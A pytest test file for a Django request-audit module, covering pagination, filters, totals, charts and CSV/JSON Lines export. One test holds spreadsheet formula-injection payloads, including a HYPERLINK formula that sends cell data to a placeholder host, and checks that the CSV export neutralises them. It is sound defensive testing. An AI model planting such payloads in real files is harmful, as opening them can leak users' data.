from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest

from mlxmanager.audit import selectors as s
from mlxmanager.errors import DomainError
from tests.mlxmanager.audit.factories import T0, rows

pytestmark = pytest.mark.django_db


def test_keyset_pages_walk_every_row_once_even_with_equal_times() -> None:
    made = rows(60, step=timedelta(0)) + rows(45, start=T0 + timedelta(hours=1))
    seen: list[int] = []
    page = s.request_page(filters=s.RequestFilter(), size=20)
    pages = [page]
    while page.older:
        page = s.request_page(filters=s.RequestFilter(), before=page.older, size=20)
        pages.append(page)
    for p in pages:
        seen += [r.id for r in p.rows]
    assert sorted(seen) == sorted(r.id for r in made) and len(seen) == len(set(seen))
    assert [r.id for r in pages[0].rows][:1] == [max(r.id for r in made[60:])]
    back = s.request_page(
        filters=s.RequestFilter(), after=pages[2].rows[0].id and s.cursor_of(pages[2].rows[0]), size=20
    )
    assert [r.id for r in back.rows] == [r.id for r in pages[1].rows]


def test_filters() -> None:
    rows(3, username="ann", requested_model="a")
    rows(2, username="bob", requested_model="b", status=429, start=T0 + timedelta(days=1))
    rows(1, username="bob", requested_model="b", error_type="client_closed", status=499)
    rows(1, backend="cloud:x", start=T0 - timedelta(days=2))

    def count(**kw: Any) -> int:
        return len(s.request_page(filters=s.parse_filter(kw), size=500).rows)

    assert count(user="ann") == 3 and count(model="b") == 3 and count(backend="cloud:x") == 1
    assert count(status="429") == 2 and count(status="error") == 3 and count(status="ok") == 4
    assert count(since=(T0 + timedelta(hours=1)).isoformat()) == 2
    assert count(until=T0.isoformat()) == 1
    with pytest.raises(DomainError):
        s.parse_filter({"status": "nope"})
    with pytest.raises(DomainError):
        s.parse_filter({"since": "yesterday"})
    with pytest.raises(DomainError):
        s.request_page(filters=s.RequestFilter(), before="garbage")


def test_totals_and_timeline() -> None:
    rows(4, username="ann", requested_model="a", step=timedelta(minutes=20))
    rows(2, username="bob", requested_model="b", status=500, start=T0 + timedelta(hours=2))
    window = s.summary_window(s.RequestFilter(), now=T0 + timedelta(hours=3))
    by_model = {t["requested_model"]: t for t in s.totals_by_model(window)}
    assert (
        by_model["a"]["requests"] == 4
        and by_model["a"]["prompt_tokens"] == 40
        and by_model["b"]["errors"] == 2
    )
    assert [t["username"] for t in s.totals_by_user(window)] == ["ann", "bob"]
    bars, unit = s.timeline(window, now=T0 + timedelta(hours=3))
    assert unit == "hour" and len(bars) == 24
    counts = {b.start: b.requests for b in bars}
    assert counts[T0] == 3 and counts[T0 + timedelta(hours=1)] == 1 and counts[T0 + timedelta(hours=2)] == 2
    geo = s.chart_svg_bars(bars)
    assert len(geo) == 24 and max(g["h"] for g in geo) > 0
    week = s.RequestFilter(since=T0 - timedelta(days=6), until=T0 + timedelta(days=1))
    bars, unit = s.timeline(week)
    assert unit == "day" and sum(b.requests for b in bars) == 6


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_export_streams_csv_and_jsonl() -> None:
    from asgiref.sync import sync_to_async

    await sync_to_async(rows)(2500)
    csv = b"".join([c async for c in s.export_rows(s.RequestFilter(), "csv")]).decode().splitlines()
    assert csv[0].startswith("id,created_at,username") and len(csv) == 2501
    jsonl = b"".join([c async for c in s.export_rows(s.RequestFilter(), "jsonl")]).decode().splitlines()
    assert len(jsonl) == 2500 and '"requested_model":"m"' in jsonl[0]


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]
)
async def test_csv_export_neutralises_spreadsheet_formulas(value: str) -> None:
    """Cells a spreadsheet would run as a formula get a leading single quote (OWASP's advice);
    the JSON Lines export is left exact."""
    import csv
    import io

    from asgiref.sync import sync_to_async

    await sync_to_async(rows)(1, requested_model=value, username=value, upstream_model="plain-model")
    text = b"".join([c async for c in s.export_rows(s.RequestFilter(), "csv")]).decode()
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    cells = dict(zip(header, row, strict=True))
    assert cells["requested_model"] == "'" + value and cells["username"] == "'" + value
    assert cells["upstream_model"] == "plain-model" and cells["status"] == "200"
    jsonl = b"".join([c async for c in s.export_rows(s.RequestFilter(), "jsonl")]).decode()
    assert json.loads(jsonl)["requested_model"] == value


def _brute_totals(by: str, f: s.RequestFilter) -> dict[str, tuple[int, int, int, int]]:
    """Totals straight from the request rows, for comparison with the rollup-based ones."""
    from mlxmanager.audit.models import RequestLog

    out: dict[str, list[int]] = {}
    for r in f.apply(RequestLog.objects.all()):
        v = out.setdefault(getattr(r, by), [0, 0, 0, 0])
        v[0] += 1
        v[1] += 0 if r.ok else 1
        v[2] += r.prompt_tokens
        v[3] += r.completion_tokens
    return {k: tuple(v) for k, v in out.items()}  # type: ignore[misc]


def _as_tuples(totals: list[dict[str, Any]], by: str) -> dict[str, tuple[int, int, int, int]]:
    return {t[by]: (t["requests"], t["errors"], t["prompt_tokens"], t["completion_tokens"]) for t in totals}


def test_rollup_totals_equal_the_rows_for_any_window_and_filter() -> None:
    # Four series of rows 28 minutes apart over 30 hours: users, models, statuses, error types.
    for i, (user, model, status, err) in enumerate(
        [
            ("ann", "a", 200, ""),
            ("bob", "b", 200, ""),
            ("ann", "b", 429, ""),
            ("cy", "a", 200, "client_closed"),
        ]
    ):
        rows(65, start=T0 + timedelta(minutes=i), step=timedelta(minutes=28),
             username=user, requested_model=model, status=status, error_type=err,
             prompt_tokens=10 + i, completion_tokens=3 + i)  # fmt: skip
    windows = [
        (T0 + timedelta(minutes=13), T0 + timedelta(hours=20, minutes=41)),  # partial hours at both ends
        (T0, T0 + timedelta(hours=24)),  # whole hours only
        (T0 + timedelta(minutes=5), T0 + timedelta(minutes=50)),  # inside one hour
        (T0 - timedelta(days=1), None),  # open end
    ]
    for since, until in windows:
        for extra in (
            {},
            {"user": "ann"},
            {"status": "ok"},
            {"status": "error"},
            {"status": "429"},
            {"model": "b"},
        ):
            f = s.RequestFilter(since=since, until=until, **extra)  # type: ignore[arg-type]
            by_model, by_user = s.totals(f)
            for by, fn in (("requested_model", s.totals_by_model), ("username", s.totals_by_user)):
                assert _as_tuples(fn(f), by) == _brute_totals(by, f), (since, until, extra, by)
            assert _as_tuples(by_model, "requested_model") == _brute_totals("requested_model", f)
            assert _as_tuples(by_user, "username") == _brute_totals("username", f)
            bars, _ = s.timeline(f, now=T0 + timedelta(days=2))
            assert sum(b.requests for b in bars) == sum(v[0] for v in _brute_totals("username", f).values())


def test_totals_and_the_chart_cost_three_queries_each(django_assert_num_queries: Any) -> None:
    rows(300, step=timedelta(minutes=3))
    f = s.RequestFilter(since=T0 + timedelta(minutes=10), until=T0 + timedelta(hours=14, minutes=5))
    times = [T0 + timedelta(minutes=3 * i) for i in range(300)]
    expected = sum(1 for t in times if f.since <= t < f.until)  # type: ignore[operator]
    with django_assert_num_queries(3):  # the rollups, and the two partial hours at the edges
        by_model, by_user = s.totals(f)
    assert by_model[0]["requests"] == by_user[0]["requests"] == expected
    with django_assert_num_queries(3):
        bars, _ = s.timeline(f)
    assert sum(b.requests for b in bars) == expected


def test_field_changes_read_as_old_to_new_without_python_reprs() -> None:
    from mlxmanager.audit.selectors import FieldChange, field_changes

    assert field_changes({"is_active": [True, False]}, "mlxmanager.user.changed") == [
        FieldChange("is_active", "yes", "no")
    ]
    assert field_changes({"username": [None, "ann"]}, "mlxmanager.user.created") == [
        FieldChange("username", None, "ann")
    ]
    assert field_changes({"targets": ["local:a", "cloud:b"]}, "mlxmanager.rule.created") == [
        FieldChange("targets", None, "local:a, cloud:b")
    ]
    assert field_changes({"defaults": [{}, {"temperature": 0.2}]}, "mlxmanager.profile.changed") == [
        FieldChange("defaults", "(none)", "temperature: 0.2")
    ]
    assert field_changes({"password": "(changed)"}, "mlxmanager.user.changed") == [
        FieldChange("password", None, "(changed)")
    ]
    assert field_changes({}, "x") == [] and field_changes(None, "x") == []


def test_a_to_date_before_the_from_date_is_an_error() -> None:
    from mlxmanager.audit.selectors import parse_filter
    from mlxmanager.errors import DomainError

    with pytest.raises(DomainError, match="must be later than") as exc:
        parse_filter({"since": "2025-03-02T00:00", "until": "2025-03-01T00:00"})
    assert exc.value.param == "until"
    assert parse_filter({"since": "2025-03-01T00:00", "until": "2025-03-02T00:00"}).until is not None
